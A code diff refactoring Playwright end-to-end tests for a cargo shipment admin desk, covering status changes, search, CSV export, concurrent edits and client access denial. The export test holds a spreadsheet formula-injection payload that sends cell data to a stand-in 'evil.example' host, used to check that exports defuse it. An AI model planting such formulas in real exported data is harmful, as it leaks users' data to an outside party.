@@ -1,11 +1,12 @@
-import { expect, test } from '@playwright/test';
-import { signIn, watch } from './support/actions';
+import { watch } from './support/actions';
 import { axe } from './support/axe';
 import { filled, officeDesk } from './support/office';
 import { bookCargo, callerOf, freeDays, newCustomer, type Shipment, stepMail } from './support/orders';
 import { fitsPhone } from './support/phone';
 import { demoAccount } from './support/platform';
-import { type Language, remember, textsOf } from './support/texts';
+import { anotherBrowser } from './support/sessions';
+import { expect, test } from './support/test';
+import { type Language, textsOf } from './support/texts';
 
 const REQUESTED = 'SHIPMENT_STATUS_QUOTE_REQUESTED';
 const CONFIRMED = 'SHIPMENT_STATUS_CONFIRMED';
@@ -71,281 +72,295 @@ for (const [language, spoken] of [
   ['en', 'ar'],
   ['ar', 'ti'],
 ] as const satisfies [Language, Language][]) {
-  test(`a shipment from request to delivery, in ${language}, for a customer who reads ${spoken}`, async ({ page }) => {
-    test.setTimeout(240_000);
-    const customer = await newCustomer(page.request, spoken);
-    const shipment = await bookCargo(customer, {
-      language: spoken,
-      pickupDate: firstOf(await freeDays(customer)),
-    });
-    await stepMail(customer, spoken, 'cargo-quote-requested', shipment.trackingNumber);
+  test.describe(() => {
+    test.use({ as: 'admin', language });
 
-    const troubles = watch(page);
-    const desk = officeDesk(page, language, 'shipments');
-    const { t, article, history } = desk;
-    const cityName = (city: string) => t(`tracking:city.${city.replace(' ', '')}`);
-    const row = desk.list.getByRole('row').filter({ hasText: shipment.trackingNumber });
-    await remember(page, language);
-    await signIn(page, demoAccount('admin'), language, '/admin?tab=shipments');
-
-    await test.step('find it by its number', async () => {
-      await desk.search(shipment.trackingNumber);
-      await expect(desk.links).toHaveText([shipment.trackingNumber]);
-      await expect(row.getByText(customer.email)).toBeVisible();
-      await expect(row.locator('[data-variant]')).toHaveText(t(`admin:shipmentStatus.${REQUESTED}`));
-      await axe(page, 'the list of shipments');
-      await fitsPhone(page, 'the list of shipments');
-    });
-
-    await test.step('open it and read all of it', async () => {
-      await desk.links.click();
-      await expect(article.getByRole('heading', { name: shipment.trackingNumber })).toBeFocused();
-      await expect(article.getByRole('link', { name: customer.email })).toBeVisible();
-      for (const text of ['A sofa and two chairs', '120 8 Avenue SW', 'Abeba Tesfay', '10 Jasper Avenue']) {
-        await expect(article.getByText(text)).toBeVisible();
-      }
-      await expect(article.getByRole('link', { name: '+1 780 555 0100' })).toHaveAttribute('href', 'tel:+17805550100');
-      await expect(history).toHaveCount(6);
-      await axe(page, 'an open shipment');
-      await fitsPhone(page, 'an open shipment');
-    });
-
-    for (const [index, { from, offered, to, chosen, city, note, mail }] of way.entries()) {
-      await test.step(`move it on to ${to}`, async () => {
-        await desk.stands(from);
-        expect(await desk.offered()).toEqual(offered);
-        await desk.choose(to);
-        const place = article.getByLabel(t('admin:step.location'));
-        const save = article.getByRole('button', { name: t('admin:step.save') });
-        if (chosen) {
-          await save.click();
-          await expect(place).toBeFocused();
-          await expect(place).toHaveAccessibleDescription(t('common:validation.required'));
-          await place.selectOption(chosen);
-        }
-        if (city) await expect(place).toHaveValue(city);
-        else await expect(place).toHaveCount(0);
-        if (to === DELIVERED) {
-          const proof = article.getByLabel(t('admin:shipment.proof'));
-          await save.click();
-          await expect(proof).toBeFocused();
-          await axe(page, 'a delivery without its proof');
-          await proof.fill(PROOF);
-        } else if (note) {
-          await desk.note(t('admin:step.note'), note);
-        }
-        await desk.save(to);
-        await desk.stands(to);
-        const step = history.nth(index + 1);
-        await expect(step).toContainText(t(`admin:shipmentStatus.${to}`));
-        if (city) await expect(step).toContainText(cityName(city));
-        if (note) await expect(step).toContainText(note);
-        await expect(row.locator('[data-variant]')).toHaveText(t(`admin:shipmentStatus.${to}`));
-        await stepMail(customer, spoken, mail, shipment.trackingNumber);
+    test(`a shipment from request to delivery, in ${language}, for a customer who reads ${spoken}`, async ({
+      page,
+    }) => {
+      const customer = await newCustomer(page.request, spoken);
+      const shipment = await bookCargo(customer, {
+        language: spoken,
+        pickupDate: firstOf(await freeDays(customer)),
       });
-    }
+      await stepMail(customer, spoken, 'cargo-quote-requested', shipment.trackingNumber);
 
-    await test.step('after the delivery: its proof for office and customer, and nothing of it in public', async () => {
-      await expect(article.getByText(t('admin:shipment.ended'))).toBeVisible();
-      await page.reload();
-      await desk.stands(DELIVERED);
-      await expect(article.getByRole('definition').getByText(PROOF)).toBeVisible();
-      await expect(article.getByRole('radio')).toHaveCount(0);
-      await axe(page, 'a shipment that has arrived');
-      const own = await customer.get<{ proofOfDelivery: string }>(`/v1/cargo/shipments/${shipment.id}`);
-      expect(own.proofOfDelivery).toBe(PROOF);
-      const tracking = await page.request.get(`/v1/cargo/tracking/${shipment.trackingNumber}`);
-      const { history: seen } = (await tracking.json()) as { history: { status: string; location: string }[] };
-      expect(seen.map(({ status, location }) => [status, location])).toEqual([
-        [REQUESTED, ''],
-        ...way.map(({ to, city }) => [to, city ?? '']),
-      ]);
-      expect(await tracking.text()).not.toMatch(/Haile|Abeba|Avenue|icy|(403|780) ?555/);
+      const troubles = watch(page);
+      const desk = officeDesk(page, language, 'shipments');
+      const { t, article, history } = desk;
+      const cityName = (city: string) => t(`tracking:city.${city.replace(' ', '')}`);
+      const row = desk.list.getByRole('row').filter({ hasText: shipment.trackingNumber });
+      await page.goto('/admin?tab=shipments');
+
+      await test.step('find it by its number', async () => {
+        await desk.search(shipment.trackingNumber);
+        await expect(desk.links).toHaveText([shipment.trackingNumber]);
+        await expect(row.getByText(customer.email)).toBeVisible();
+        await expect(row.locator('[data-variant]')).toHaveText(t(`admin:shipmentStatus.${REQUESTED}`));
+        await axe(page, 'the list of shipments');
+        await fitsPhone(page, 'the list of shipments');
+      });
+
+      await test.step('open it and read all of it', async () => {
+        await desk.links.click();
+        await expect(article.getByRole('heading', { name: shipment.trackingNumber })).toBeFocused();
+        await expect(article.getByRole('link', { name: customer.email })).toBeVisible();
+        for (const text of ['A sofa and two chairs', '120 8 Avenue SW', 'Abeba Tesfay', '10 Jasper Avenue']) {
+          await expect(article.getByText(text)).toBeVisible();
+        }
+        await expect(article.getByRole('link', { name: '+1 780 555 0100' })).toHaveAttribute(
+          'href',
+          'tel:+17805550100',
+        );
+        await expect(history).toHaveCount(6);
+        await axe(page, 'an open shipment');
+        await fitsPhone(page, 'an open shipment');
+      });
+
+      for (const [index, { from, offered, to, chosen, city, note, mail }] of way.entries()) {
+        await test.step(`move it on to ${to}`, async () => {
+          await desk.stands(from);
+          expect(await desk.offered()).toEqual(offered);
+          await desk.choose(to);
+          const place = article.getByLabel(t('admin:step.location'));
+          const save = article.getByRole('button', { name: t('admin:step.save') });
+          if (chosen) {
+            await save.click();
+            await expect(place).toBeFocused();
+            await expect(place).toHaveAccessibleDescription(t('common:validation.required'));
+            await place.selectOption(chosen);
+          }
+          if (city) await expect(place).toHaveValue(city);
+          else await expect(place).toHaveCount(0);
+          if (to === DELIVERED) {
+            const proof = article.getByLabel(t('admin:shipment.proof'));
+            await save.click();
+            await expect(proof).toBeFocused();
+            await axe(page, 'a delivery without its proof');
+            await proof.fill(PROOF);
+          } else if (note) {
+            await desk.note(t('admin:step.note'), note);
+          }
+          await desk.save(to);
+          await desk.stands(to);
+          const step = history.nth(index + 1);
+          await expect(step).toContainText(t(`admin:shipmentStatus.${to}`));
+          if (city) await expect(step).toContainText(cityName(city));
+          if (note) await expect(step).toContainText(note);
+          await expect(row.locator('[data-variant]')).toHaveText(t(`admin:shipmentStatus.${to}`));
+          await stepMail(customer, spoken, mail, shipment.trackingNumber);
+        });
+      }
+
+      await test.step('after the delivery: its proof for office and customer, and nothing of it in public', async () => {
+        await expect(article.getByText(t('admin:shipment.ended'))).toBeVisible();
+        await page.reload();
+        await desk.stands(DELIVERED);
+        await expect(article.getByRole('definition').getByText(PROOF)).toBeVisible();
+        await expect(article.getByRole('radio')).toHaveCount(0);
+        await axe(page, 'a shipment that has arrived');
+        const own = await customer.get<{ proofOfDelivery: string }>(`/v1/cargo/shipments/${shipment.id}`);
+        expect(own.proofOfDelivery).toBe(PROOF);
+        const tracking = await page.request.get(`/v1/cargo/tracking/${shipment.trackingNumber}`);
+        const { history: seen } = (await tracking.json()) as { history: { status: string; location: string }[] };
+        expect(seen.map(({ status, location }) => [status, location])).toEqual([
+          [REQUESTED, ''],
+          ...way.map(({ to, city }) => [to, city ?? '']),
+        ]);
+        expect(await tracking.text()).not.toMatch(/Haile|Abeba|Avenue|icy|(403|780) ?555/);
+      });
+      expect(troubles).toEqual([]);
     });
-    expect(troubles).toEqual([]);
   });
 }
 
-test('on the road a new place is noted, and a failure ends the way', async ({ page }) => {
-  const customer = await newCustomer(page.request);
-  const { id, etag, trackingNumber } = await bookCargo(customer, {
-    language: 'en',
-    pickupDate: firstOf(await freeDays(customer)),
-  });
-  const admin = await callerOf(page.request, demoAccount('admin'));
-  const confirmed = await admin.patch<Shipment>(`/v1/cargo/shipments/${id}`, { status: CONFIRMED, etag });
-  await admin.patch(`/v1/cargo/shipments/${id}`, { status: PICKED_UP, etag: confirmed.etag });
+test.describe('the office', () => {
+  test.use({ as: 'admin' });
 
-  const desk = officeDesk(page, 'en', 'shipments');
-  const { t, article, history } = desk;
-  await signIn(page, demoAccount('admin'), 'en', `/admin?tab=shipments&open=${id}`);
-  await desk.stands(PICKED_UP);
-  await desk.choose(PICKED_UP);
-  // Where it was picked up is no new place.
-  await expect(article.getByLabel(t('admin:step.location')).locator('option[value=Calgary]')).toHaveCount(0);
-  await article.getByLabel(t('admin:step.location')).selectOption('Airdrie');
-  await desk.save(PICKED_UP);
-  await expect(history.nth(3)).toContainText('Airdrie');
-  expect(await desk.offered()).toEqual([IN_TRANSIT, PICKED_UP, FAILED]);
-  await desk.choose(FAILED);
-  await expect(article.getByLabel(t('admin:step.location'))).toHaveValue('Airdrie');
-  await desk.note(t('admin:step.note'), 'Nobody at home');
-  await desk.save(FAILED);
-  await desk.stands(FAILED);
-  await expect(article.getByText(t('admin:shipment.ended'))).toBeFocused();
-  await stepMail(customer, 'en', 'cargo-failed', trackingNumber);
-});
-
-test('search, filters, order, pages and the file of a long list', async ({ page }) => {
-  test.setTimeout(180_000);
-  const customer = await newCustomer(page.request);
-  const days = (await freeDays(customer)).slice(0, 11);
-  const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")';
-  const shipments: Shipment[] = [];
-  for (let number = 0; number < 22; number++) {
-    const pickupDate = days[number % days.length] ?? firstOf(days);
-    const description = number === 0 ? formula : undefined;
-    shipments.push(await bookCargo(customer, { language: 'en', pickupDate, description }));
-  }
-  const [single] = shipments;
-  if (!single) throw new Error('There is no shipment');
-  const newestFirst = shipments.map(({ id }) => id).reverse();
-  const pickupOf = new Map(shipments.map(({ id, pickupDate }) => [id, pickupDate]));
-
-  const desk = officeDesk(page, 'en', 'shipments');
-  const { t } = desk;
-  await signIn(page, demoAccount('admin'), 'en', '/admin?tab=shipments');
-  await desk.search(customer.email);
-
-  await test.step('two pages, the newest first, and back leads to the first', async () => {
-    await expect.poll(desk.ids).toEqual(newestFirst.slice(0, 20));
-    await page.getByRole('button', { name: t('common:pager.next') }).click();
-    await expect.poll(desk.ids).toEqual(newestFirst.slice(20));
-    await expect(page.getByText(filled(t('common:pager.page'), { page: 2 }))).toBeVisible();
-    await expect(page.getByRole('button', { name: t('common:pager.next') })).toBeDisabled();
-    await page.goBack();
-    await expect.poll(desk.ids).toEqual(newestFirst.slice(0, 20));
-  });
-
-  await test.step('the earliest pickup first, over both pages', async () => {
-    const order = page.getByLabel(t('admin:desk.order'));
-    await order.selectOption('SHIPMENT_ORDER_PICKUP_SOONEST');
-    const soonest = [...pickupOf.values()].sort();
-    const pickups = async () => (await desk.ids()).map((id) => pickupOf.get(id));
-    await expect.poll(pickups).toEqual(soonest.slice(0, 20));
-    await page.getByRole('button', { name: t('common:pager.next') }).click();
-    await expect.poll(pickups).toEqual(soonest.slice(20));
-    // Another order begins with its first page.
-    await order.selectOption('SHIPMENT_ORDER_OLDEST');
-    await expect.poll(desk.ids).toEqual(newestFirst.toReversed().slice(0, 20));
-  });
-
-  await test.step('one day of pickups', async () => {
-    await page.getByLabel(t('admin:shipment.from')).fill(single.pickupDate);
-    await page.getByLabel(t('admin:shipment.to')).fill(single.pickupDate);
-    const thatDay = shipments.filter(({ pickupDate }) => pickupDate === single.pickupDate).map(({ id }) => id);
-    await expect.poll(desk.ids).toEqual(thatDay);
-    await page.reload();
-    await expect.poll(desk.ids).toEqual(thatDay);
-    await page.getByRole('button', { name: t('admin:desk.clear') }).click();
-    await expect(page.getByRole('searchbox')).toHaveValue('');
-    await desk.search(customer.email);
-  });
-
-  await test.step('one status, which the file holds too, without a formula in it', async () => {
+  test('on the road a new place is noted, and a failure ends the way', async ({ page }) => {
+    const customer = await newCustomer(page.request);
+    const { id, etag, trackingNumber } = await bookCargo(customer, {
+      language: 'en',
+      pickupDate: firstOf(await freeDays(customer)),
+    });
     const admin = await callerOf(page.request, demoAccount('admin'));
-    await admin.patch(`/v1/cargo/shipments/${single.id}`, { status: CONFIRMED, etag: single.etag });
-    const status = page.getByLabel(t('admin:desk.status'));
-    await status.selectOption(CONFIRMED);
-    await expect.poll(desk.ids).toEqual([single.id]);
-    const confirmed = await desk.exported();
-    expect(confirmed.name).toMatch(/^cargo-shipments-\d{4}-\d\d-\d\d\.csv$/);
-    expect(confirmed.column('tracking_number')).toEqual([single.trackingNumber]);
-    expect(confirmed.column('status')).toEqual(['confirmed']);
-    expect(confirmed.column('cargo_description')).toEqual([`'${formula}`]);
-    expect(confirmed.column('delivery_contact_phone')).toEqual(["'+1 780 555 0100"]);
+    const confirmed = await admin.patch<Shipment>(`/v1/cargo/shipments/${id}`, { status: CONFIRMED, etag });
+    await admin.patch(`/v1/cargo/shipments/${id}`, { status: PICKED_UP, etag: confirmed.etag });
 
-    // The whole list, also what is on the second page, in its order.
-    await status.selectOption('SHIPMENT_STATUS_UNSPECIFIED');
-    await expect(desk.links).toHaveCount(20);
-    const all = await desk.exported();
-    expect(all.column('tracking_number')).toEqual(shipments.map(({ trackingNumber }) => trackingNumber));
-    expect(new Set(all.column('user_email'))).toEqual(new Set([customer.email]));
-  });
-
-  await test.step('a search that finds nothing says so and can be cleared', async () => {
-    await desk.search(`nobody.${customer.email}`);
-    await expect(page.getByText(t('admin:desk.nothingText'))).toBeVisible();
-    await axe(page, 'a list in which nothing fits');
-    await page
-      .getByRole('button', { name: t('admin:desk.clear') })
-      .first()
-      .click();
-    await expect(desk.links.first()).toBeVisible();
-  });
-});
-
-test('somebody else was faster: the fresh shipment, what was typed, and no second change', async ({
-  page,
-  browser,
-}) => {
-  const customer = await newCustomer(page.request);
-  const shipment = await bookCargo(customer, { language: 'en', pickupDate: firstOf(await freeDays(customer)) });
-  const at = `/admin?tab=shipments&open=${shipment.id}`;
-  const desk = officeDesk(page, 'en', 'shipments');
-  const { t, article } = desk;
-  await signIn(page, demoAccount('admin'), 'en', at);
-  await desk.stands(REQUESTED);
-  await desk.note(t('admin:step.note'), 'Van 3 comes');
-
-  const second = await browser.newContext();
-  const other = officeDesk(await second.newPage(), 'en', 'shipments');
-  await test.step('a second window confirms it meanwhile', async () => {
-    await signIn(other.page, demoAccount('admin'), 'en', at);
-    await other.stands(REQUESTED);
-    await other.choose(CONFIRMED);
-    await other.save(CONFIRMED);
-  });
-  await second.close();
-
-  await test.step('the first one is told and sees how it stands now', async () => {
-    await desk.choose(CANCELLED);
-    await article.getByRole('button', { name: t('admin:step.save') }).click();
-    await expect(article.getByText(t('admin:step.overtaken'))).toBeVisible();
-    const status = t(`admin:shipmentStatus.${CONFIRMED}`);
-    await expect(article.getByText(filled(t('admin:step.overtakenText'), { status }))).toBeVisible();
-    await desk.stands(CONFIRMED);
-    expect(await desk.offered()).toEqual([PICKED_UP, CANCELLED]);
-    await expect(article.getByLabel(t('admin:step.note'))).toHaveValue('Van 3 comes');
-    await axe(page, 'a shipment that somebody else has changed');
-    await fitsPhone(page, 'a shipment that somebody else has changed');
-  });
-
-  await test.step('with the fresh shipment the next step is saved', async () => {
+    const desk = officeDesk(page, 'en', 'shipments');
+    const { t, article, history } = desk;
+    await page.goto(`/admin?tab=shipments&open=${id}`);
+    await desk.stands(PICKED_UP);
     await desk.choose(PICKED_UP);
+    // Where it was picked up is no new place.
+    await expect(article.getByLabel(t('admin:step.location')).locator('option[value=Calgary]')).toHaveCount(0);
+    await article.getByLabel(t('admin:step.location')).selectOption('Airdrie');
     await desk.save(PICKED_UP);
-    await expect(desk.history.nth(2)).toContainText('Van 3 comes');
-    const { history } = await customer.get<{ history: unknown[] }>(`/v1/cargo/shipments/${shipment.id}`);
-    expect(history).toHaveLength(3);
+    await expect(history.nth(3)).toContainText('Airdrie');
+    expect(await desk.offered()).toEqual([IN_TRANSIT, PICKED_UP, FAILED]);
+    await desk.choose(FAILED);
+    await expect(article.getByLabel(t('admin:step.location'))).toHaveValue('Airdrie');
+    await desk.note(t('admin:step.note'), 'Nobody at home');
+    await desk.save(FAILED);
+    await desk.stands(FAILED);
+    await expect(article.getByText(t('admin:shipment.ended'))).toBeFocused();
+    await stepMail(customer, 'en', 'cargo-failed', trackingNumber);
+  });
+
+  test('search, filters, order, pages and the file of a long list', async ({ page }) => {
+    const customer = await newCustomer(page.request);
+    const days = (await freeDays(customer)).slice(0, 11);
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open, please")';
+    const shipments: Shipment[] = [];
+    for (let number = 0; number < 22; number++) {
+      const pickupDate = days[number % days.length] ?? firstOf(days);
+      const description = number === 0 ? formula : undefined;
+      shipments.push(await bookCargo(customer, { language: 'en', pickupDate, description }));
+    }
+    const [single] = shipments;
+    if (!single) throw new Error('There is no shipment');
+    const newestFirst = shipments.map(({ id }) => id).reverse();
+    const pickupOf = new Map(shipments.map(({ id, pickupDate }) => [id, pickupDate]));
+
+    const desk = officeDesk(page, 'en', 'shipments');
+    const { t } = desk;
+    await page.goto('/admin?tab=shipments');
+    await desk.search(customer.email);
+
+    await test.step('two pages, the newest first, and back leads to the first', async () => {
+      await expect.poll(desk.ids).toEqual(newestFirst.slice(0, 20));
+      await page.getByRole('button', { name: t('common:pager.next') }).click();
+      await expect.poll(desk.ids).toEqual(newestFirst.slice(20));
+      await expect(page.getByText(filled(t('common:pager.page'), { page: 2 }))).toBeVisible();
+      await expect(page.getByRole('button', { name: t('common:pager.next') })).toBeDisabled();
+      await page.goBack();
+      await expect.poll(desk.ids).toEqual(newestFirst.slice(0, 20));
+    });
+
+    await test.step('the earliest pickup first, over both pages', async () => {
+      const order = page.getByLabel(t('admin:desk.order'));
+      await order.selectOption('SHIPMENT_ORDER_PICKUP_SOONEST');
+      const soonest = [...pickupOf.values()].sort();
+      const pickups = async () => (await desk.ids()).map((id) => pickupOf.get(id));
+      await expect.poll(pickups).toEqual(soonest.slice(0, 20));
+      await page.getByRole('button', { name: t('common:pager.next') }).click();
+      await expect.poll(pickups).toEqual(soonest.slice(20));
+      // Another order begins with its first page.
+      await order.selectOption('SHIPMENT_ORDER_OLDEST');
+      await expect.poll(desk.ids).toEqual(newestFirst.toReversed().slice(0, 20));
+    });
+
+    await test.step('one day of pickups', async () => {
+      await page.getByLabel(t('admin:shipment.from')).fill(single.pickupDate);
+      await page.getByLabel(t('admin:shipment.to')).fill(single.pickupDate);
+      const thatDay = shipments.filter(({ pickupDate }) => pickupDate === single.pickupDate).map(({ id }) => id);
+      await expect.poll(desk.ids).toEqual(thatDay);
+      await page.reload();
+      await expect.poll(desk.ids).toEqual(thatDay);
+      await page.getByRole('button', { name: t('admin:desk.clear') }).click();
+      await expect(page.getByRole('searchbox')).toHaveValue('');
+      await desk.search(customer.email);
+    });
+
+    await test.step('one status, which the file holds too, without a formula in it', async () => {
+      const admin = await callerOf(page.request, demoAccount('admin'));
+      await admin.patch(`/v1/cargo/shipments/${single.id}`, { status: CONFIRMED, etag: single.etag });
+      const status = page.getByLabel(t('admin:desk.status'));
+      await status.selectOption(CONFIRMED);
+      await expect.poll(desk.ids).toEqual([single.id]);
+      const confirmed = await desk.exported();
+      expect(confirmed.name).toMatch(/^cargo-shipments-\d{4}-\d\d-\d\d\.csv$/);
+      expect(confirmed.column('tracking_number')).toEqual([single.trackingNumber]);
+      expect(confirmed.column('status')).toEqual(['confirmed']);
+      expect(confirmed.column('cargo_description')).toEqual([`'${formula}`]);
+      expect(confirmed.column('delivery_contact_phone')).toEqual(["'+1 780 555 0100"]);
+
+      // The whole list, also what is on the second page, in its order.
+      await status.selectOption('SHIPMENT_STATUS_UNSPECIFIED');
+      await expect(desk.links).toHaveCount(20);
+      const all = await desk.exported();
+      expect(all.column('tracking_number')).toEqual(shipments.map(({ trackingNumber }) => trackingNumber));
+      expect(new Set(all.column('user_email'))).toEqual(new Set([customer.email]));
+    });
+
+    await test.step('a search that finds nothing says so and can be cleared', async () => {
+      await desk.search(`nobody.${customer.email}`);
+      await expect(page.getByText(t('admin:desk.nothingText'))).toBeVisible();
+      await axe(page, 'a list in which nothing fits');
+      await page
+        .getByRole('button', { name: t('admin:desk.clear') })
+        .first()
+        .click();
+      await expect(desk.links.first()).toBeVisible();
+    });
+  });
+
+  test('somebody else was faster: the fresh shipment, what was typed, and no second change', async ({
+    page,
+    browser,
+  }) => {
+    const customer = await newCustomer(page.request);
+    const shipment = await bookCargo(customer, { language: 'en', pickupDate: firstOf(await freeDays(customer)) });
+    const at = `/admin?tab=shipments&open=${shipment.id}`;
+    const desk = officeDesk(page, 'en', 'shipments');
+    const { t, article } = desk;
+    await page.goto(at);
+    await desk.stands(REQUESTED);
+    await desk.note(t('admin:step.note'), 'Van 3 comes');
+
+    const second = await anotherBrowser(browser, 'admin');
+    const other = officeDesk(second.page, 'en', 'shipments');
+    await test.step('a second window confirms it meanwhile', async () => {
+      await other.page.goto(at);
+      await other.stands(REQUESTED);
+      await other.choose(CONFIRMED);
+      await other.save(CONFIRMED);
+    });
+    await second.done();
+
+    await test.step('the first one is told and sees how it stands now', async () => {
+      await desk.choose(CANCELLED);
+      await article.getByRole('button', { name: t('admin:step.save') }).click();
+      await expect(article.getByText(t('admin:step.overtaken'))).toBeVisible();
+      const status = t(`admin:shipmentStatus.${CONFIRMED}`);
+      await expect(article.getByText(filled(t('admin:step.overtakenText'), { status }))).toBeVisible();
+      await desk.stands(CONFIRMED);
+      expect(await desk.offered()).toEqual([PICKED_UP, CANCELLED]);
+      await expect(article.getByLabel(t('admin:step.note'))).toHaveValue('Van 3 comes');
+      await axe(page, 'a shipment that somebody else has changed');
+      await fitsPhone(page, 'a shipment that somebody else has changed');
+    });
+
+    await test.step('with the fresh shipment the next step is saved', async () => {
+      await desk.choose(PICKED_UP);
+      await desk.save(PICKED_UP);
+      await expect(desk.history.nth(2)).toContainText('Van 3 comes');
+      const { history } = await customer.get<{ history: unknown[] }>(`/v1/cargo/shipments/${shipment.id}`);
+      expect(history).toHaveLength(3);
+    });
   });
 });
 
-test('a client sees nothing of it', async ({ page }) => {
-  const customer = await newCustomer(page.request);
-  const shipment = await bookCargo(customer, { language: 'en', pickupDate: firstOf(await freeDays(customer)) });
-  const at = `/v1/cargo/shipments/${shipment.id}`;
-  const client = await callerOf(page.request, demoAccount('client'));
-  expect(await client.statusOf('GET', at)).toBe(404);
-  expect(await client.statusOf('PATCH', at, { status: CONFIRMED, etag: shipment.etag })).toBe(403);
-  expect(await client.statusOf('GET', '/v1/cargo/shipments:export')).toBe(403);
-  const found = await client.get<{ shipments: Shipment[] }>('/v1/cargo/shipments?pageSize=100');
-  expect(found.shipments.map(({ id }) => id)).not.toContain(shipment.id);
+test.describe('a client', () => {
+  test.use({ as: 'client' });
 
-  const calls: string[] = [];
-  page.on('request', (request) => calls.push(new URL(request.url()).pathname));
-  await signIn(page, demoAccount('client'), 'en', `/admin?tab=shipments&open=${shipment.id}`);
-  await expect(page.getByRole('heading', { name: textsOf('en')('admin:denied.title') })).toBeVisible();
-  await expect(page.getByRole('tab')).toHaveCount(0);
-  await expect(page.getByText(shipment.trackingNumber)).toHaveCount(0);
-  expect(calls.filter((path) => path.startsWith('/v1/cargo'))).toEqual([]);
+  test('sees nothing of it', async ({ page }) => {
+    const customer = await newCustomer(page.request);
+    const shipment = await bookCargo(customer, { language: 'en', pickupDate: firstOf(await freeDays(customer)) });
+    const at = `/v1/cargo/shipments/${shipment.id}`;
+    const client = await callerOf(page.request, demoAccount('client'));
+    expect(await client.statusOf('GET', at)).toBe(404);
+    expect(await client.statusOf('PATCH', at, { status: CONFIRMED, etag: shipment.etag })).toBe(403);
+    expect(await client.statusOf('GET', '/v1/cargo/shipments:export')).toBe(403);
+    const found = await client.get<{ shipments: Shipment[] }>('/v1/cargo/shipments?pageSize=100');
+    expect(found.shipments.map(({ id }) => id)).not.toContain(shipment.id);
+
+    const calls: string[] = [];
+    page.on('request', (request) => calls.push(new URL(request.url()).pathname));
+    await page.goto(`/admin?tab=shipments&open=${shipment.id}`);
+    await expect(page.getByRole('heading', { name: textsOf('en')('admin:denied.title') })).toBeVisible();
+    await expect(page.getByRole('tab')).toHaveCount(0);
+    await expect(page.getByText(shipment.trackingNumber)).toHaveCount(0);
+    expect(calls.filter((path) => path.startsWith('/v1/cargo'))).toEqual([]);
+  });
 });
